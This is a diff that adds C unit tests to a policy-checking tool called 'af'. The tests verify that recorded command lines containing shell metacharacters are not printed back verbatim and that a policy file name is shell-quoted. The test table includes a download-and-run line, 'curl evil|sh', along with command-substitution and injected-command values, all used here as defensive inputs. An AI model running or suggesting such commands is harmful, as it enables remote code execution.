@@ -288,6 +288,56 @@ START_TEST(test_builds_are_compared_with_those_recorded) {
 }
 END_TEST
 
+/* What a policy says that it was recorded with, and what is printed of it. */
+static const struct {
+	const char *command;
+	bool printed;
+} commands[] = {
+	{ "a -b=c '' 'd e' 'don'\\''t' '$(f)'", true },
+	{ "'a'\\'''", true },
+	{ "x; curl evil|sh", false },
+	{ "x $(y)", false },
+	{ "x 'y' >z", false },
+	{ "x 'y", false },
+	{ "x 'y'z", false },
+	{ "x'y'", false },
+	{ "x \\''y'", false },
+	{ "x [...]", false },
+	{ "x ", false },
+};
+
+START_TEST(test_command_is_printed_if_it_is_nothing_more) {
+	char *policy, *want;
+
+	write_elf("a.so", 0x11223344);
+	ck_assert_int_gt(asprintf(&policy,
+				  "# Recorded by: af record -- %s\n"
+				  "#: %%s/a.so build-id 00\n"
+				  "library %%s/a.so { read }\n",
+				  commands[_i].command),
+			 0);
+	ck_assert_int_gt(asprintf(&want, "\taf record -o p.af -- %s\n",
+				  commands[_i].printed ? commands[_i].command :
+							 "PROGRAM ARGUMENT..."),
+			 0);
+	write_policy(policy);
+	ck_assert_int_eq(check(NULL, NULL), AF_OK);
+	ck_assert_msg(strstr(verb_out, want), "%s", verb_out);
+	free(policy);
+	free(want);
+}
+END_TEST
+
+START_TEST(test_name_of_a_policy_is_quoted_in_a_command) {
+	write_elf("a.so", 0x11223344);
+	write_policy("#: %s/a.so build-id 00\n"
+		     "library %s/a.so { read }\n");
+	ck_assert_int_eq(rename("p.af", "p; q.af"), 0);
+	ck_assert_int_eq(verb(af_check, "check", "p; q.af", NULL), AF_OK);
+	ck_assert(says("\taf record -o 'p; q.af' -- PROGRAM ARGUMENT...\n"));
+}
+END_TEST
+
 START_TEST(test_builds_in_json) {
 	static const char *const want[][4] = {
 		{ "same.so", "same", "11223344", "" },
@@ -474,6 +524,10 @@ int main(void)
 	tcase_add_test(tcase, test_policy_that_is_not_there);
 	tcase_add_test(tcase, test_program_that_is_not_there);
 	tcase_add_test(tcase, test_builds_are_compared_with_those_recorded);
+	tcase_add_loop_test(tcase,
+			    test_command_is_printed_if_it_is_nothing_more, 0,
+			    sizeof(commands) / sizeof(*commands));
+	tcase_add_test(tcase, test_name_of_a_policy_is_quoted_in_a_command);
 	tcase_add_test(tcase, test_builds_in_json);
 	tcase_add_test(tcase, test_change_is_a_failure_if_strict);
 	tcase_add_test(tcase,
